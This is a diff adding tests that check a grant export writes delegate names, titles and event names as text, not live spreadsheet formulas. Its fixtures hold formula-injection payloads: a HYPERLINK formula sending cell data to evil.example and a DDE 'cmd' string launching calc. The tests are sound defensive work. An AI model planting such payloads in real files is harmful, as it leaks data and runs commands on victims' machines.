@@ -180,3 +180,51 @@ def test_the_export_runs_a_fixed_number_of_queries(
 def test_a_donor_cannot_export_the_grants(client, make_user, event):
     client.force_login(make_user("giver", Role.DONOR))
     assert client.get(reverse("grant-export", args=[event.code])).status_code == 403
+
+
+# --- Outside text is text (docs/security.md, "Outside text is data") ---------------------
+
+PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
+THANKS = '=HYPERLINK("http://evil.example/?"&A1,"Thanks")'
+
+
+@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
+def test_a_delegates_name_and_title_are_text_cells_showing_what_was_typed(
+    as_officer, make_grant, event, prefix
+):
+    name = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"name")'
+    title = f"{prefix}cmd|' /C calc'!A0"
+    grant = make_grant()
+    type(grant).objects.filter(pk=grant.pk).update(nominee_name=name, nominee_title=title)
+    _response, book = export(as_officer, event)
+    sheet = book.worksheets[0]
+    assert [(c.value, c.data_type) for c in (sheet["B2"], sheet["C2"])] == [
+        (name, "s"),
+        (title, "s"),
+    ]
+
+
+def test_a_delegate_named_as_a_hyperlink_formula_is_exported_as_text(as_officer, make_grant, event):
+    make_grant(name=THANKS)
+    _response, book = export(as_officer, event)
+    cell = book.worksheets[0]["B2"]
+    assert (cell.value, cell.data_type) == (THANKS, "s")
+
+
+def test_the_event_and_fund_names_on_the_about_sheet_are_text(as_officer, make_grant, event):
+    type(event).objects.filter(pk=event.pk).update(name=THANKS)
+    make_grant()
+    _response, book = export(as_officer, event)
+    [cell] = [row[1] for row in book["About"].iter_rows() if row[0].value == "Event"]
+    assert (cell.value, cell.data_type) == (f"{event.code} – {THANKS}", "s")
+
+
+def test_the_totals_row_is_the_exports_own_formulas(as_officer, make_grant, event):
+    make_grant()
+    _response, book = export(as_officer, event)
+    sheet = book.worksheets[0]
+    assert [(sheet[c].value, sheet[c].data_type) for c in ("K3", "L3", "M3")] == [
+        ("=SUM(K2:K2)", "f"),
+        ("=SUM(L2:L2)", "f"),
+        ("=SUM(M2:M2)", "f"),
+    ]
